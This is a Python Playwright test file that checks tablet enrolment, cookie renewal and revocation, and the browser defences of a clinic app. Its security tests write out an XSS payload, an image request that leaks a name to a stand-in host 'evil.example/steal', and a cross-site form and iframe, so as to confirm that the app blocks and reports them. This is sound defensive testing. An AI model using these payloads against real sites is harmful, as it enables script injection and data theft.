"""A tablet on the clinic's Wi-Fi, in a real browser: let in with a code, known after a restart, sent away.

The laptop takes `127.0.0.1` for its own screen; these tablets come through a relay from another address.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from deploy.demo.programme import colleague
from registry.staff.policy import Role
from tests.browser.conftest import PATIENCE_MS, TABLET, Hand, Posta, log_in
from tests.browser.steps import a_name, open_stage, register, start_visit, tap_save
from tests.browser.test_lost_wifi import ready
from tests.browser.wifi import Wifi
from tests.chromium import QUIET, where_chromium_is

pytestmark = pytest.mark.browser
UNKNOWN = "This tablet is not known here"


@pytest.fixture
def wifi(posta: Posta) -> Iterator[Wifi]:
    made = Wifi(posta.clinic.node.port, source="127.0.0.2").start()
    yield made
    made.stop()


@contextmanager
def browser_of(chromium: Browser, wifi: Wifi, profile: Path) -> Iterator[Page]:
    """A tablet's browser with a memory of its own; leaving it is switching it off."""
    context = chromium.browser_type.launch_persistent_context(
        str(profile),
        executable_path=where_chromium_is(),
        args=[*QUIET, "--ignore-certificate-errors"],
        base_url=f"https://127.0.0.1:{wifi.port}",
        ignore_https_errors=True,
        viewport={"width": TABLET[0], "height": TABLET[1]},
    )
    context.set_default_timeout(PATIENCE_MS)
    try:
        yield context.pages[0]
    finally:
        context.close()


def code_shown(coordinator: Page) -> str:
    coordinator.goto("/tablets/")
    coordinator.get_by_role("button", name="Add a tablet").click()
    return coordinator.locator(".code").inner_text()


def let_in(page: Page, code: str, name: str) -> None:
    page.goto(f"/tablet/join/#{code}")
    expect(page.get_by_label("Code")).to_have_value(code)
    assert "#" not in page.url
    page.get_by_label("Name of this tablet").fill(name)
    page.get_by_role("button", name="Add this tablet").click()
    expect(page.get_by_text("This tablet is known now")).to_be_visible()


def device_cookies(context: BrowserContext) -> list[str]:
    return [one["value"] for one in context.cookies() if one["name"].startswith("__Host-posta_tablet_")]


def test_a_tablet_is_let_in_stays_known_and_is_sent_away(
    posta: Posta, chromium: Browser, wifi: Wifi, tablet: Hand, central_off: None, tmp_path: Path
) -> None:
    """H12: an unknown device on the Wi-Fi sees one page, and so does a tablet that was sent away."""
    coordinator = tablet(Role.COORDINATOR)
    with browser_of(chromium, wifi, tmp_path / "profile") as page:
        page.goto("/find/")
        expect(page.get_by_role("heading", name=UNKNOWN)).to_be_visible()
        let_in(page, code_shown(coordinator), "Tablet 3")
        expect(coordinator.get_by_text("is known now")).to_be_visible()
        page.get_by_role("link", name="Log in").click()
        log_in(page, Role.TRIAGE)
        assert page.evaluate(KEY_LEAVES_THE_TABLET) == "InvalidAccessError"
        copied = page.context.cookies()
    with browser_of(chromium, wifi, tmp_path / "profile") as page:  # the browser was restarted
        page.goto("/account/login/")
        expect(page.get_by_role("heading", name="Log in")).to_be_visible()
        log_in(page, Role.TRIAGE)
        coordinator.goto("/tablets/")
        row = coordinator.get_by_role("listitem").filter(has_text="Tablet 3")
        expect(row).to_contain_text(colleague(Role.TRIAGE).full_name)

        for _ in range(2):  # the cookie before the last is good for a minute, the one before that for nothing
            prove_anew(page)
        _nobody_else_is_it(chromium, wifi, copied)
        _what_waited_counts_once_the_key_was_shown(page, wifi, a_visit(tablet(Role.REGISTRAR)))

        row.get_by_role("link", name="Revoke").click()
        coordinator.get_by_role("button", name="Revoke").click()
        expect(coordinator.get_by_text("No tablet is known here yet.")).to_be_visible()
        page.goto("/queue/")
        expect(page.get_by_role("heading", name=UNKNOWN)).to_be_visible()
        page.reload()
        expect(page.get_by_role("heading", name=UNKNOWN)).to_be_visible()


def a_visit(desk: Page) -> str:
    """Somebody new has come; the address without the laptop's name."""
    register(desk, a_name())
    start_visit(desk)
    return desk.evaluate("location.pathname")  # type: ignore[no-any-return]


def _what_waited_counts_once_the_key_was_shown(page: Page, wifi: Wifi, visit: str) -> None:
    """Without its cookie the laptop does not take it for this tablet; it shows its key by itself."""
    page.goto(visit)
    ready(page)
    open_stage(page, "Triage")
    page.get_by_label("Weight").fill("61.2")
    wifi.lose()
    tap_save(page)
    expect(page.get_by_role("heading", name="Kept on this tablet")).to_be_visible()
    page.context.clear_cookies(name=re.compile("^__Host-posta_tablet_"))
    wifi.find()
    expect(page.get_by_text("It is saved on the clinic laptop.")).to_be_visible()
    assert len(device_cookies(page.context)) == 1


def prove_anew(page: Page) -> None:
    """Its last proof is old: the page renews it by itself, and the person sees nothing of it."""
    page.evaluate(PROOF_IS_OLD)
    before = device_cookies(page.context)
    with page.expect_response(lambda said: "/tablet/proof/" in said.url and said.request.method == "POST"):
        page.goto("/queue/")
    page.wait_for_function("() => document.readyState === 'complete'")
    assert device_cookies(page.context) != before
    expect(page.locator("[data-gate]")).to_have_count(0)


PROOF_IS_OLD = """() => new Promise((done) => {
  const opening = indexedDB.open("posta", 1);
  opening.onsuccess = () => {
    const writing = opening.result.transaction("facts", "readwrite");
    writing.objectStore("facts").put(0, "proved");
    writing.oncomplete = () => { opening.result.close(); done(); };
  };
})"""
KEY_LEAVES_THE_TABLET = """async () => {
  const me = await new Promise((done) => {
    const opening = indexedDB.open("posta", 1);
    opening.onsuccess = () => {
      const asked = opening.result.transaction("facts").objectStore("facts").get("identity");
      asked.onsuccess = () => done(asked.result);
    };
  });
  return crypto.subtle.exportKey("pkcs8", me.key).then(() => "it does", (error) => error.name);
}"""


def _nobody_else_is_it(chromium: Browser, wifi: Wifi, copied: Any) -> None:
    """The cookies of a tablet in another browser: they were worth something until its next proof."""
    context = chromium.new_context(base_url=f"https://127.0.0.1:{wifi.port}", ignore_https_errors=True)
    try:
        context.add_cookies(copied)
        page = context.new_page()
        page.goto("/queue/")
        expect(page.locator("[data-gate]")).to_be_visible()
        expect(page.get_by_role("heading", name=re.compile(UNKNOWN))).to_be_visible()
    finally:
        context.close()


# --- the wall, as a browser sees it -------------------------------------------------------------------------


@contextmanager
def unwatched(posta: Posta, chromium: Browser) -> Iterator[Page]:
    """A browser at the laptop whose refusals are what is looked for."""
    context = chromium.new_context(base_url=posta.clinic.node.url, ignore_https_errors=True)
    context.set_default_timeout(PATIENCE_MS)
    try:
        yield context.new_page()
    finally:
        context.close()


WRITE_MARKUP = """() => {
  try { document.body.innerHTML = "<img src=x onerror=alert(1)>"; return "it did"; }
  catch (error) { return error.name; }
}"""


def test_what_a_browser_refuses_is_told(
    posta: Posta, chromium: Browser, tablet: Hand, central_off: None
) -> None:
    """H12: a script that got into a page does not run, and the coordinator hears of it."""
    with unwatched(posta, chromium) as page:
        page.goto("/account/login/")
        assert page.evaluate(WRITE_MARKUP) == "TypeError"
        with page.expect_response("**/blocked/report/") as told:
            page.evaluate("""() => { const image = document.createElement("img");
                image.src = "https://evil.example/steal?who=Santos"; document.body.append(image); }""")
        assert told.value.status == 204
    coordinator = tablet(Role.COORDINATOR)
    coordinator.goto("/tablets/")
    coordinator.get_by_role("link", name="What browsers refused").click()
    row = coordinator.get_by_role("row").filter(has_text="img-src")
    expect(row).to_contain_text("https://evil.example")
    expect(row).to_contain_text("account_login")
    expect(coordinator.locator("main")).not_to_contain_text("Santos")


def test_a_foreign_page_gets_nothing_done(posta: Posta, chromium: Browser, central_off: None) -> None:
    """H12: a page of somebody else's, in the browser of a tablet, posts to the laptop and frames it."""
    address = f"{posta.clinic.node.url}/account/login/"
    foreign = f"""<form method="post" action="{address}"><button>Win</button></form>
        <iframe src="{address}"></iframe><a href="{address}">Posta</a>"""
    with unwatched(posta, chromium) as page:
        page.route(
            "https://evil.example/**", lambda route: route.fulfill(body=foreign, content_type="text/html")
        )
        answered = []
        page.on("response", lambda said: answered.append((said.status, said.url)))
        page.goto("https://evil.example/")
        page.wait_for_load_state("networkidle")
        assert (200, address) not in answered  # the frame
        assert "Log in" not in page.frames[-1].content()
        with page.expect_response(address) as posted:
            page.get_by_role("button", name="Win").click()
        assert posted.value.status == 403
        assert posted.value.json()["code"] == "foreign-page"
        page.goto("https://evil.example/")
        page.get_by_role("link", name="Posta").click()  # a link may lead here
        expect(page.get_by_role("heading", name="Log in")).to_be_visible()
